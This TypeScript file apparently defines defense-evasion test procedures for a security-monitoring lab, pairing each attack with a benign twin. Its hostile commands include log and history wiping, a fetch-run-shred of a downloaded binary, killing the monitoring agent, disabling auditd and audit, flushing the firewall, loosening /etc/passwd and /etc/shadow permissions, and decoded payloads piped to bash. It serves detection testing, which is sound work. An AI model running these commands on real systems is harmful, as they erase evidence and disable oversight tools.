// Defence evasion: attack procedures of our own, each with a benign twin (see types.ts). Everything here
// runs inside the lab: logs and files are the overlays' copies, the firewall is the lab's own network
// namespace. Two things are global to the machine and handled with care: kernel audit (only Vigil's own
// rules, key vigil, are deleted; the agent puts them and the enabled flag back, the lab checks audit is
// as found at the end) and the pid namespace (the lab agent is signalled by the pid it wrote in its own
// status file, never by name; auditd is never signalled: `service auditd stop` would run
// start-stop-daemon --exec across the machine, so only systemctl, which cannot reach a service manager
// from the lab's /run, is tried).
import type { Technique } from './types.js';
import { INTERNET } from '../technique-lab.js';

/** The lab agent's pid, from the status file it rewrites every second. */
const AGENT_PID = `pid=$(python3 -c 'import json;print(json.load(open("/var/lib/vigil-agent/status.json"))["pid"])')`;
/** `id >/dev/null` gzip-compressed, then base64. */
const GZ_PAYLOAD = 'H4sIAAAAAAACA8tMUbDTT0kt088rzcnhAgAvEHQTDgAAAA==';

export const evasion: Technique[] = [
  {
    id: 'T1070.002',
    name: 'Clear Linux or Mac system logs',
    tactic: 'defense-evasion',
    procedures: [
      { name: 'truncate -s 0 syslog and wtmp', script: 'truncate -s 0 /var/log/syslog /var/log/wtmp' },
      { name: 'shell redirection over cron.log and btmp', script: ': > /var/log/cron.log; cat /dev/null > /var/log/btmp' },
      { name: 'shred -u lastlog', script: 'shred -n 1 -z -u /var/log/lastlog' },
    ],
    benign: {
      name: 'archive a log and append a maintenance note',
      script: 'gzip -c /var/log/syslog > /root/syslog-archive.gz && echo "$(date -Is) maintenance window" >> /var/log/syslog && tail -n 2 /var/log/syslog',
    },
  },
  {
    id: 'T1070.003',
    name: 'Clear command history',
    tactic: 'defense-evasion',
    procedures: [
      { name: 'history -c and unset HISTFILE', script: 'history -c; unset HISTFILE; export HISTFILESIZE=0; true' },
      { name: 'rm the history file', script: 'printf "ls\\n" >> ~/.bash_history && rm -f ~/.bash_history', user: 'alice' },
      { name: 'ln -sf /dev/null over the history', script: 'ln -sf /dev/null /root/.bash_history' },
    ],
    benign: { name: 'read own history length', script: 'printf "ls\\n" >> ~/.bash_history && wc -l ~/.bash_history', user: 'bob' },
  },
  {
    id: 'T1070.004',
    name: 'File deletion of a dropped tool',
    tactic: 'defense-evasion',
    procedures: [
      {
        name: 'fetch to /dev/shm, run, shred -u',
        script: `curl -s -o /dev/shm/.k http://${INTERNET.web}/k && chmod 700 /dev/shm/.k && /dev/shm/.k && shred -u /dev/shm/.k`,
      },
      { name: 'hidden copy in /tmp, run, rm -f', script: 'cp /usr/bin/id /tmp/.sshd-helper && /tmp/.sshd-helper >/dev/null && rm -f /tmp/.sshd-helper' },
      {
        name: 'python os.remove in /var/tmp',
        script: `python3 -c 'import os,shutil,subprocess; shutil.copy("/usr/bin/true","/var/tmp/.cache-x"); subprocess.run(["/var/tmp/.cache-x"]); os.remove("/var/tmp/.cache-x")'`,
      },
    ],
    benign: { name: 'remove a build folder in /tmp', script: 'mkdir -p /tmp/build-1 && echo data > /tmp/build-1/out.txt && rm -rf /tmp/build-1' },
  },
  {
    id: 'T1070.006',
    name: 'Timestomp',
    tactic: 'defense-evasion',
    procedures: [
      {
        name: 'touch -r a planted binary to /usr/bin/ls',
        script: 'cp /usr/bin/true /usr/local/bin/lsx && touch -r /usr/bin/ls /usr/local/bin/lsx',
      },
      { name: 'touch -d on a cron file', script: `echo '* * * * * root true' > /etc/cron.d/sync && touch -d '2021-03-04 05:06:07' /etc/cron.d/sync` },
      { name: 'python os.utime', script: `python3 -c 'import os; os.utime("/etc/cron.d/sync", (1577836800, 1577836800))'` },
    ],
    benign: { name: 'touch a stamp file', script: 'touch /var/lib/lab-stamp && touch -c /usr/local/bin/lsx && ls -l --time-style=+%F /var/lib/lab-stamp' },
  },
  {
    id: 'T1562.001',
    name: 'Disable or modify tools',
    tactic: 'defense-evasion',
    procedures: [
      { name: 'freeze the agent with kill -STOP', script: `${AGENT_PID} && kill -STOP "$pid" && sleep 1 && kill -CONT "$pid"` },
      {
        name: 'freeze the agent from python os.kill',
        script: `python3 -c 'import json,os,signal,time; p=json.load(open("/var/lib/vigil-agent/status.json"))["pid"]; os.kill(p, signal.SIGSTOP); time.sleep(1); os.kill(p, signal.SIGCONT)'`,
      },
      // The agent reports the SIGTERM before it stops (its link is the last thing to go); the lab starts it again.
      { name: 'kill -TERM the agent', script: `${AGENT_PID} && kill -TERM "$pid" && sleep 0.5`, stopsAgent: true },
      { name: 'systemctl stop auditd and the agent', script: 'systemctl stop auditd 2>&1; systemctl disable --now vigil-agent 2>&1; true' },
    ],
    benign: {
      name: 'check the agent is alive (kill -0) and auditd status',
      script: `${AGENT_PID} && kill -0 "$pid" && echo "agent $pid alive"; systemctl status auditd 2>&1; true`,
    },
  },
  {
    id: 'T1562.004',
    name: 'Disable or modify system firewall',
    tactic: 'defense-evasion',
    procedures: [
      {
        name: 'nft flush ruleset',
        script: `nft add table inet labfw && nft add chain inet labfw input '{ type filter hook input priority 0; policy accept; }' && nft add rule inet labfw input tcp dport 22 accept && nft flush ruleset`,
      },
      { name: 'iptables -P ACCEPT, -F, -X', script: 'iptables -A INPUT -p tcp --dport 22 -j ACCEPT && iptables -P INPUT ACCEPT && iptables -F && iptables -X' },
    ],
    benign: { name: 'list the firewall', script: 'nft list ruleset; iptables -L -n' },
  },
  {
    id: 'T1562.012',
    name: 'Disable or modify Linux audit system',
    tactic: 'defense-evasion',
    procedures: [
      // Only rules keyed vigil: other users' audit rules are never touched.
      { name: 'auditctl -D -k vigil', script: 'auditctl -D -k vigil' },
      { name: 'auditctl -e 0', script: 'auditctl -e 0' },
      {
        name: 'python audit netlink AUDIT_SET enabled=0',
        // struct audit_status: mask (AUDIT_STATUS_ENABLED), enabled 0, the rest zero; AUDIT_SET = 1001, NLM_F_REQUEST|NLM_F_ACK.
        script: `python3 -c 'import socket,struct; s=socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9); body=struct.pack("=10I", 1, 0, 0, 0, 0, 0, 0, 0, 0, 0); s.sendto(struct.pack("=IHHII", 16+len(body), 1001, 5, 1, 0)+body, (0, 0)); print(struct.unpack("=IHHIIi", s.recv(64)[:20])[5])'`,
      },
    ],
    benign: { name: 'auditctl -s and -l', script: 'auditctl -s && auditctl -l | wc -l' },
  },
  {
    id: 'T1222.002',
    name: 'Linux file and directory permissions modification',
    tactic: 'defense-evasion',
    procedures: [
      {
        name: 'chmod 666 passwd and 777 sudoers.d',
        script: 'chmod 666 /etc/passwd && chmod 777 /etc/sudoers.d && sleep 1; chmod 644 /etc/passwd && chmod 750 /etc/sudoers.d',
      },
      { name: 'chown crontab to bob', script: 'chown bob:bob /etc/crontab && sleep 1; chown root:root /etc/crontab' },
      { name: 'chattr -i -a on shadow', script: 'chattr -i -a /etc/shadow 2>&1; true' },
    ],
    benign: {
      name: 'install a tool and tighten a log',
      script:
        'cp /usr/bin/true /usr/local/bin/tool && chown root:root /usr/local/bin/tool && chmod 755 /usr/local/bin/tool && chmod 0640 /var/log/syslog && chmod u+w,go-w /etc/hostname',
    },
  },
  {
    id: 'T1140',
    name: 'Deobfuscate/decode files or information',
    tactic: 'defense-evasion',
    procedures: [
      { name: 'base64 -d a script to /tmp', script: `echo 'IyEvYmluL3NoCmVjaG8gZGVjb2RlZCBwYXlsb2FkCg==' | base64 -d > /tmp/p.sh && sh /tmp/p.sh` },
      {
        name: 'openssl enc -d and openssl base64 -d',
        script:
          "printf 'stage two\\n' | openssl enc -aes-256-cbc -pbkdf2 -k lab -out /tmp/s2.enc && openssl enc -d -aes-256-cbc -pbkdf2 -k lab -in /tmp/s2.enc -out /tmp/s2 && echo aWQK | openssl base64 -d -out /tmp/s3",
      },
      { name: 'python base64.b64decode to a file', script: `python3 -c 'import base64; open("/tmp/p.bin","wb").write(base64.b64decode("aWQK"))'` },
      { name: 'xxd -r -p', script: 'echo 69640a | xxd -r -p > /tmp/p.hex && cat /tmp/p.hex' },
    ],
    benign: {
      name: 'encode and hex-dump, no decoding',
      script: 'base64 /etc/hostname > /root/h.b64 && xxd /usr/bin/true | head -n 2 && openssl dgst -sha256 /etc/hostname',
    },
  },
  {
    id: 'T1027',
    name: 'Obfuscated files or information',
    tactic: 'defense-evasion',
    procedures: [
      { name: 'base64 --decode piped to bash -s', script: `echo 'aWQgPi9kZXYvbnVsbAo=' | base64 --decode | bash -s` },
      { name: 'eval of printf hex escapes', script: `eval "$(printf '\\x69\\x64\\x20\\x3e\\x2f\\x64\\x65\\x76\\x2f\\x6e\\x75\\x6c\\x6c')"` },
      { name: 'base64 then gzip -d piped to sh', script: `echo '${GZ_PAYLOAD}' | base64 -d | gzip -d | sh` },
    ],
    benign: { name: 'gzip a note and read it back', script: `printf 'hello\\n' | gzip -c > /root/h.gz && zcat /root/h.gz | wc -l && sh -c 'echo ok'` },
  },
];
